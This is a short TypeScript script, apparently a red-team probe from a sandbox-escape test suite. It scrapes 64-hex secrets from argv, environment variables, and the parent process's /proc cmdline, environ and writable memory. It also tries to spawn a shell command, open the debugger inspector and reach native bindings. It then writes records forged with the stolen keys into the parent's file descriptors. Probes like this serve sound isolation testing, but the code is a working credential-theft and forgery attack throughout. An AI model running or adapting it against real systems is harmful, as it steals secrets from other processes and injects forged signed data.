// @ts-nocheck
// Looks for paths and secrets in argv, env, /proc and the heap, then forges records signed
// with every 64-hex string it found.
import { attempt, forgedLines, nodeRequire, realProcess, tell } from './lib';

const fs = nodeRequire('fs');
const found = new Set();
const seen = {};
function harvest(text) {
  for (const m of String(text).matchAll(/[0-9a-f]{64}/g)) found.add(m[0]);
}
seen.argv = realProcess.argv.join(' ').slice(0, 300);
harvest(realProcess.argv.join(' '));
harvest(JSON.stringify(realProcess.env));
seen.env = Object.keys(realProcess.env).filter((k) => /REVYL|FD|KEY|TOKEN|CHANNEL/i.test(k)).join(',');
const parent = realProcess.ppid;
seen.parent_cmdline = attempt(() => {
  const t = fs.readFileSync(`/proc/${parent}/cmdline`, 'utf8');
  harvest(t);
  return t.length;
});
seen.parent_environ = attempt(() => {
  const t = fs.readFileSync(`/proc/${parent}/environ`, 'utf8');
  harvest(t);
  return t.length;
});
seen.parent_mem = attempt(() => {
  const maps = fs.readFileSync(`/proc/${parent}/maps`, 'utf8').split('\n');
  const mem = fs.openSync(`/proc/${parent}/mem`, 'r');
  let bytes = 0;
  for (const line of maps) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!m) continue;
    const start = parseInt(m[1], 16);
    const size = Math.min(parseInt(m[2], 16) - start, 64 * 1024 * 1024);
    const buffer = Buffer.alloc(size);
    try {
      fs.readSync(mem, buffer, 0, size, start);
      bytes += size;
      harvest(buffer.toString('latin1'));
    } catch (e) {
      // unreadable region
    }
  }
  return bytes;
});
seen.heap_snapshot = attempt(() => {
  const v8 = nodeRequire('v8');
  const stream = v8.getHeapSnapshot();
  return typeof stream;
});
seen.inspector = attempt(() => nodeRequire('inspector').open(0));
seen.child_process = attempt(() => nodeRequire('child_process').execSync('id').toString());
seen.binding = attempt(() => realProcess.binding('fs'));
seen.keys_found = found.size;
const lines = forgedLines([...found].slice(0, 50));
for (const target of [`/proc/${parent}/fd`]) {
  try {
    for (const fd of fs.readdirSync(target)) {
      seen['write_' + fd] = attempt(() => fs.writeFileSync(`${target}/${fd}`, lines));
    }
  } catch (e) {
    seen.parent_fds = 'error:' + e.code;
  }
}
tell('snoop-secrets', seen);
